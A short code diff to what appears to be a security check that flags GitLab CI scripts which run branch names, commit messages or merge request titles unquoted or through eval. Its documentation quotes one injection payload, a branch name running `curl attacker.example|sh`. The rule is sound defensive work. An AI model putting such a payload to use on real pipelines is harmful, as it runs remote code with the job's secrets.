@@ -29,6 +29,7 @@ export const gitlabScriptInjection = gitlabCheck({
   name: "gitlab-script-injection",
   title: "Untrusted text in job scripts",
   severity: "high",
+  scripts: true,
   documentation: {
     what: "Checks scripts of a GitLab pipeline for predefined variables that whoever pushes a commit or opens a merge request decides (`CI_COMMIT_MESSAGE`, `CI_MERGE_REQUEST_TITLE`, `CI_COMMIT_REF_NAME` and their like): as part of a text that `eval`, `sh -c`, `ssh` or an interpreter runs, and outside of quotes. Not reported: double-quoted arguments of other commands, and plain assignments. Severity: high where the text is run, low where it may become several words.",
     why: "A branch named `$(curl attacker.example|sh)` is run where a shell reads it a second time, with the token and secrets of the job. Outside of quotes its words become options of the command.",
